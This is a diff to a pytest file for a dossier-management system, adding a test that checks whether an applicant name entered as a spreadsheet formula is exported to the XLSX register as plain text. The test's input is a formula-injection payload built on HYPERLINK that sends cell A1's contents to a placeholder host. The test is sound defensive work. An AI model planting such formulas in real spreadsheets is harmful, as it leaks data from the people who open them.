@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from datetime import date, datetime
 from io import BytesIO
@@ -10,6 +11,7 @@ import pytest
 from openpyxl import load_workbook
 from PIL import Image
 
+from cchc.dossiers import services as s
 from cchc.dossiers.constants import DossierStatus
 from cchc.dossiers.documents.constants import DocumentError, DocumentErrorCode
 from cchc.dossiers.documents.qr import qr_payload
@@ -23,7 +25,7 @@ from cchc.dossiers.documents.selectors import (
 )
 from cchc.dossiers.documents.text import date_line, date_words
 from cchc.dossiers.models import Dossier
-from cchc.dossiers.tests.conftest import World, to_status
+from cchc.dossiers.tests.conftest import CITIZEN, VN, World, to_status
 from cchc.dossiers.tests.documents.conftest import A4_LANDSCAPE, A5, extended, page_size, pdf_text, read_pdf
 
 JANUARY = (date(2026, 1, 1), date(2026, 1, 31))
@@ -284,3 +286,27 @@ def test_register_period_is_checked(world: World) -> None:
     assert reversed_period.value.code == DocumentErrorCode.INVALID_PERIOD
     with pytest.raises(DocumentError):
         dossier_register_pdf(agency=world.centre, start=date(2025, 1, 1), end=date(2026, 1, 31))
+
+
+def test_register_xlsx_keeps_a_formula_typed_as_a_name_as_text(world: World) -> None:
+    # given: an applicant whose name is a spreadsheet formula (submitted on the portal)
+    hostile = '=HYPERLINK("http://x/?"&A1,"Bấm")'
+    applicant = dataclasses.replace(CITIZEN, name=hostile)
+    s.dossier_receive_counter(
+        procedure=world.province_procedure,
+        applicant=applicant,
+        receiving_agency=world.centre,
+        competent_agency=world.justice,
+        actor=world.reception,
+        at=datetime(2026, 1, 5, 8, 0, tzinfo=VN),
+    )
+
+    # when
+    content = dossier_register_xlsx(agency=world.centre, start=JANUARY[0], end=JANUARY[1])
+
+    # then: the name is a string cell holding exactly what was typed, never a formula
+    sheet = load_workbook(BytesIO(content)).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=3)
+    assert cell.value == hostile
+    assert cell.data_type == "s"
